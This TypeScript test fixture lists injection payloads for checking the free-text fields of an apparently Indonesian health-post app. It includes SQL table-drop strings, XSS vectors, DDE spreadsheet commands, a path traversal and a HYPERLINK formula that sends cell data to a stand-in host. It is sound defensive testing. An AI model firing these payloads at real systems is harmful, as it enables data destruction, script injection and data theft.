// Injection strings for every free-text field: SQL, HTML/JS and spreadsheet
// formulas. Each must be refused with an Indonesian message or stored exactly
// as typed, and leave every export and page inert.

export const INJECTIONS = [
  `'; DROP TABLE "Posyandu"; --`,
  `Robert'); DELETE FROM "User" WHERE 1=1; --`,
  `" OR "1"="1`,
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `"><svg onload=alert(1)>`,
  `javascript:alert(1)`,
  `=HYPERLINK("http://contoh.invalid/?"&A1,"klik")`,
  `=1+1`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `{{7*7}}\${7*7}`,
  `../../etc/passwd`,
  `Melati \u202Eevil\u202C`,
] as const;

/** Strings a spreadsheet would run as a formula when opened from CSV. */
export const FORMULA_INJECTIONS = INJECTIONS.filter((s) => /^[=+\-@\t]/.test(s));

/** True when `html` contains no live markup from any injection (escaped text is fine). */
export function unescapedInjection(html: string): string | null {
  for (const s of INJECTIONS) {
    if (!/[<>]/.test(s)) continue;
    if (html.includes(s)) return s;
  }
  for (const tag of ["<script>alert", "<img src=x", "<svg onload"]) if (html.includes(tag)) return tag;
  return null;
}

/** Quotes a CSV cell the way a spreadsheet would write it (RFC 4180). */
export const csvCell = (s: string) => (/[",;\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s);

/** A CSV file: header and rows, every cell quoted as needed. */
export const csvOf = (header: readonly string[], rows: readonly (readonly string[])[], delimiter = ",") =>
  [header, ...rows].map((r) => r.map(csvCell).join(delimiter)).join("\r\n") + "\r\n";
